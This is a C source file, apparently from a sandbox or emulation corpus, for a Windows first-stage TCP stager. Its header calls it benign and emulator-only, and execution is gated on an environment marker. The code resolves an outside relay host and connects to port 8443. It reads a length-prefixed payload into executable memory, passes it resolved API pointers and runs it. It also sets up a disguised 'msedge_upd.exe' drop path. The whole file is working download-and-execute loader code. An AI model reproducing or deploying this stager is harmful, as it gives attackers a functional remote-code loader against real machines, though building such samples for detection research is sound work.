/*
 * stager.c - combo-tcp-lznt1-x86: the first stage, a raw TCP stager (benign, emulator-only; see
 * ../../lineage-common/common.h).
 *
 * Resolves edge.example-relay.net, connects to port 8443, reads a 4-byte length and that many
 * bytes into a new PAGE_EXECUTE_READWRITE allocation, and calls it with a context block
 * (function pointers, where it lies, the path and command line of the program it unpacks).
 * Exit codes: 0 ok, 1 no marker, 2 network, 3 short read, 4 memory, 5 the stage failed.
 */
#include <winsock2.h>
#include "common.h"
#include "stage2.h"

static int recv_all(SOCKET s, char *buf, int len)
{
    int got = 0, n;
    while (got < len) {
        n = recv(s, buf + got, len - got, 0);
        if (n <= 0)
            return 0;
        got += n;
    }
    return 1;
}

void Entry(void)
{
    typedef DWORD (WINAPI *stage_t)(struct s2_ctx *);
    static struct s2_ctx ctx;
    WSADATA wsa;
    struct hostent *host;
    struct sockaddr_in addr;
    SOCKET s;
    DWORD size = 0;
    char *mem;
    int i;
    HMODULE k32, nt;

    if (!marker_present())
        ExitProcess(1);
    if (WSAStartup(MAKEWORD(2, 2), &wsa) != 0)
        ExitProcess(2);
    host = gethostbyname("edge.example-relay.net");
    if (!host)
        ExitProcess(2);
    for (i = 0; i < (int)sizeof(addr); i++)
        ((char *)&addr)[i] = 0;
    addr.sin_family = AF_INET;
    addr.sin_port = htons(8443);
    addr.sin_addr.s_addr = *(unsigned long *)host->h_addr_list[0];
    s = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
    if (s == INVALID_SOCKET || connect(s, (struct sockaddr *)&addr, sizeof(addr)) != 0)
        ExitProcess(2);
    if (!recv_all(s, (char *)&size, 4) || size < 16 || size > 0x20000)
        ExitProcess(3);
    mem = (char *)VirtualAlloc(0, size, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!mem)
        ExitProcess(4);
    if (!recv_all(s, mem, (int)size))
        ExitProcess(3);
    closesocket(s);
    k32 = GetModuleHandleA("kernel32.dll");
    nt = GetModuleHandleA("ntdll.dll");
    ctx.pGetEnvironmentVariableA = (void *)GetProcAddress(k32, "GetEnvironmentVariableA");
    ctx.pVirtualAlloc = (void *)GetProcAddress(k32, "VirtualAlloc");
    ctx.pRtlDecompressBuffer = (void *)GetProcAddress(nt, "RtlDecompressBuffer");
    ctx.pCreateThread = (void *)GetProcAddress(k32, "CreateThread");
    ctx.pWaitForSingleObject = (void *)GetProcAddress(k32, "WaitForSingleObject");
    ctx.pCreateFileA = (void *)GetProcAddress(k32, "CreateFileA");
    ctx.pWriteFile = (void *)GetProcAddress(k32, "WriteFile");
    ctx.pCloseHandle = (void *)GetProcAddress(k32, "CloseHandle");
    ctx.pCreateProcessA = (void *)GetProcAddress(k32, "CreateProcessA");
    ctx.pGetExitCodeProcess = (void *)GetProcAddress(k32, "GetExitCodeProcess");
    ctx.self = (unsigned char *)mem;
    ctx.self_len = size;
    copy_str(ctx.marker_name, "CHAINREPLAY_SANDBOX", sizeof(ctx.marker_name));
    copy_str(ctx.marker_value, "replay-only", sizeof(ctx.marker_value));
    copy_str(ctx.path, "C:\\Users\\analyst\\AppData\\Local\\Temp\\msedge_upd.exe", sizeof(ctx.path));
    copy_str(ctx.cmdline, "msedge_upd.exe --profile-sync", sizeof(ctx.cmdline));
    if (((stage_t)(void *)mem)(&ctx) != 0)
        ExitProcess(5);
    ExitProcess(0);
}
